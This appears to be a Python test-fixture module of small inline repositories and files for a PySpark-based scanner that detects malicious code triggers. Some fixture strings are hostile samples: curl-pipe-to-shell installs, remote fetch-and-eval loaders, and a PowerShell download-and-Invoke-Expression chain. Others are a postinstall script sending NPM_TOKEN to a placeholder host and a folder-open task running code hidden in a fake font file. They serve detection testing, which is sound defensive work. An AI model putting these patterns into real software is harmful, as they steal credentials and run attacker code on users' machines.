"""Small inline corpora for what prose doesn't contain."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession


#: (id, path, text)
FILES = [
    (0, "src/index.js", "const a = require('fs');\nmodule.exports = a;"),
    (1, "assets/icon.woff2", "const x = require('child_process');"),
    (2, "assets/pic.png", "just text"),
    (3, "docs/readme.md", "plain words"),
    (4, "data/table.json", "function f() { return eval(process.env.X) }"),
    (5, "logo.svg", "  <svg xmlns='x'></svg>"),
    (6, "bad.svg", "const svg = 1;"),
    (7, "package.json", '{"scripts": {"start": "node src/index.js", "postinstall": "node x.js", "lint": "eslint .", "prebuild": "echo"}}'),
    (8, ".vscode/tasks.json", "{}"),
    (9, "ci/docker-compose.yml", "services:"),
    (10, "webpack.config.js", "module.exports = {}"),
    (11, ".github/workflows/ci.yml", "run: node build.js"),
    (12, "yarn.lock", "# lock"),
    (13, "Makefile", "all:\n\tnode build.js"),
    (14, ".bashrc", "alias x=y"),
    (15, "archive.tar.GZ", "no gzip"),
    (16, "scripts/install.sh", "curl https://x.example.invalid/a.sh | sh"),
    (17, "tools/fetch.py", "import requests\nx = requests.get(u).text\nexec(x)"),
    (18, "setup.py", "from setuptools import setup"),
    (19, "win/run.ps1", "$c = (New-Object Net.WebClient).DownloadString('http://x')\n$d = [Convert]::FromBase64String($c)\nInvoke-Expression $d"),
    (20, "lib/loader.js", "const d = createDecipheriv('aes-256-cbc', k, iv); new  Function(d)();"),
    (21, "main.go", "//go:generate stringer\npackage main"),
    (22, "App.csproj", "<Project><Target Name='x'/></Project>"),
    (23, "lib/x.rb", "open-uri\nsystem('ls')"),
    (24, "a.b/noext", "HTTPCLIENT"),
]


#: (seq, module id, path)
MODULES = [(1, "src/a.js", "src/a.js"), (2, "src/lib/b.ts", "src/lib/b.ts"), (3, "src/lib/index.js", "src/lib/index.js"), (4, "c.mjs", "c.mjs"), (5, "page.html#embedded-script-0", "page.html"), (6, "page.html#embedded-script-1", "page.html"), (7, "icon.png", "icon.png"), (8, "lone.js", "lone.js")]


#: (module id, seq, specifier, line)
IMPORTS = [
    ("src/a.js", 1, "./lib/b", 1), ("src/a.js", 2, "./lib", 2), ("src/a.js", 3, "../c.mjs", 3), ("src/a.js", 4, "lodash", 4), ("src/a.js", 5, "fs", 5), ("src/a.js", 6, "../../out.js", 6),
    ("src/lib/b.ts", 1, "../../page.html", 1), ("src/lib/b.ts", 2, "./missing", 2), ("src/lib/index.js", 1, "../a.js", 1), ("c.mjs", 1, "<dynamic require>", 7), ("c.mjs", 2, "node:os", 8),
    ("page.html#embedded-script-0", 1, "./icon.png", 9), ("icon.png", 1, "./src/a.js", 1),
]


#: (seq, file, trigger, line)
ROOTS = [(1, "src/a.js", "npm start (package.json)", 3), (2, "src/a.js", "npm test (package.json)", 4), (3, "", "npm lint (package.json)", 5), (4, "gone.js", "build config gone.js", None)]


#: (module id, seq, name, line, capability, function)
CALLS = [
    ("src/a.js", 1, "local:boot", 1, None, None), ("src/a.js", 2, "local:deep", 2, None, "boot"), ("src/a.js", 3, "eval", 3, "DynamicCode", "deep"), ("src/a.js", 4, "eval", 9, "DynamicCode", "unused"),
    ("icon.png", 1, "child_process.exec", 2, "Process", None), ("c.mjs", 1, "local:x", 1, None, "y"), ("lone.js", 1, "fetch", 1, "Network", None), ("lone.js", 2, "eval", 2, "DynamicCode", None),
]


def inline(spark: SparkSession, rows: list[tuple], ddl: str) -> DataFrame:
    return spark.createDataFrame(rows, ddl)


def _literal(value: object) -> str:
    if value is None:
        return "NULL"
    if isinstance(value, int):
        return str(value)
    return "'" + str(value).replace("'", "''") + "'"


def values_sql(rows: list[tuple], columns: str) -> str:
    """The same rows for the oracle: (VALUES ...) AS t(columns)."""
    return "(VALUES " + ", ".join("(" + ", ".join(map(_literal, r)) + ")" for r in rows) + f") AS t({columns})"


#: (repository, path, text): small repositories with a trigger, for whole scans
REPOSITORIES = [
    ("eval", "package.json", '{"scripts": {"start": "node src/index.js"}}'),
    ("eval", "src/index.js", "async function boot() {\n  const r = await fetch('https://a.example.invalid');\n  const t = await r.text();\n  eval(t);\n}\nboot();\n"),
    ("secret", "package.json", '{"scripts": {"postinstall": "node scripts/collect.js"}}'),
    ("secret", "scripts/collect.js", "const https = require('https');\nhttps.request('https://a.example.invalid/' + process.env.NPM_TOKEN);\n"),
    ("tasks", ".vscode/tasks.json", '{"tasks": [{"label": "a", "command": "node stage.js", "runOptions": {"runOn": "folderOpen"}},]}'),
    ("tasks", "stage.js", "require('./fonts/icon.woff2');\n"),
    ("tasks", "fonts/icon.woff2", "const cp = require('child_process');\nfetch('https://a.example.invalid').then(r => r.text()).then(t => { cp.exec(t); });\n"),
    ("clean", "index.js", "export const answer = 42;\n"),
]
